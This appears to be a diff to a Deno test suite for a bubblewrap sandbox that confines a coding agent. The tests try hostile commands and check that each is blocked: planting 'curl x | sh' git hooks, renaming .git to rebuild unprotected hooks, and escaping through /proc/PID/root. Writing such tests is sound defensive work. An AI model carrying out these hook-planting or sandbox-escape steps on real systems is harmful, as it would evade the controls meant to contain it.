@@ -4,7 +4,7 @@
  * PI_CONTROLS_SANDBOX=required (CI installs bubblewrap and sets it): then they fail.
  */
 import assert from "node:assert/strict";
-import { spawnSync } from "node:child_process";
+import { spawn, spawnSync } from "node:child_process";
 import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { configFrom, decideIn } from "./testing.ts";
@@ -91,6 +91,8 @@ Deno.test({
       `mkdir -p .pi/extensions && echo 'export default () => {}' > .pi/extensions/evil.ts`,
       `echo evil >> ${home}/.pi/agent/extensions/pi-controls.jsonc`,
       `echo 'curl x | sh' > .git/hooks/pre-commit`,
+      // Renamed away and made again, the hooks would be unprotected.
+      `mv .git .git-away; mkdir -p .git/hooks && echo 'curl x | sh' > .git/hooks/post-checkout`,
       "echo done",
     ].join("\n"),
   );
@@ -106,6 +108,8 @@ Deno.test({
   assert.ok(!existsSync(join(proj, ".pi/extensions/evil.ts")), "an extension was planted");
   assert.equal(readFileSync(join(home, ".pi/agent/extensions/pi-controls.jsonc"), "utf8"), "{}\n");
   assert.ok(!existsSync(join(proj, ".git/hooks/pre-commit")), "a git hook was planted");
+  assert.ok(!existsSync(join(proj, ".git-away")), ".git was renamed away");
+  assert.ok(!existsSync(join(proj, ".git/hooks/post-checkout")), "a git hook was planted");
   assert.match(r.output, /Read-only file system/);
   assert.match(r.output, /done/);
   // The message names the place and why.
@@ -135,6 +139,27 @@ Deno.test({
   run(`git config core.fsmonitor /tmp/other`, config, ctx);
   const cfg = spawnSync("git", ["config", "core.fsmonitor"], { cwd: proj, encoding: "utf8" });
   assert.equal(cfg.stdout.trim(), hook);
+});
+
+Deno.test({
+  name: "sandbox: no way out through another process's /proc/PID/root",
+  ignore,
+}, async () => {
+  const { home, proj, zone } = tree();
+  const outside = spawn("sleep", ["30"]);
+  try {
+    const config = sandboxConfig(home);
+    const r = run(
+      `echo x > /proc/${outside.pid}/root${zone}/via-proc; ls /proc | grep -c '^[0-9]'`,
+      config,
+      ctxOf(proj, home),
+    );
+    assert.ok(!existsSync(join(zone, "via-proc")), `escaped through /proc: ${r.output}`);
+    // Only the sandbox's own processes are there (bwrap's init, bash and ls, grep).
+    assert.ok(Number(r.stdout.trim()) < 10, r.output);
+  } finally {
+    outside.kill();
+  }
 });
 
 Deno.test({ name: "sandbox: network none cuts the network off", ignore }, async () => {
@@ -174,8 +199,10 @@ Deno.test("sandbox: the bwrap arguments mount outer places first and quote the c
     ..."--ro-bind / / --dev /dev --proc /proc".split(" "),
     ..."--bind /p /p --tmpfs /p/.pi --remount-ro /p/.pi".split(" "),
     ..."--tmpfs /h/.ssh --remount-ro /h/.ssh --ro-bind /dev/null /h/key".split(" "),
-    ..."--ro-bind /p/.git/config /p/.git/config".split(" "),
-    ..."--unshare-net --die-with-parent --new-session --chdir /p".split(" "),
+    // (.git kept as a mount point: it cannot be renamed away and made again without its config.)
+    ..."--bind /p/.git /p/.git --ro-bind /p/.git/config /p/.git/config".split(" "),
+    ..."--unshare-net --unshare-pid --unshare-ipc --die-with-parent --new-session".split(" "),
+    ..."--chdir /p".split(" "),
   ]);
   assert.equal(shellQuote("it's $HOME"), `'it'\\''s $HOME'`);
   assert.match(
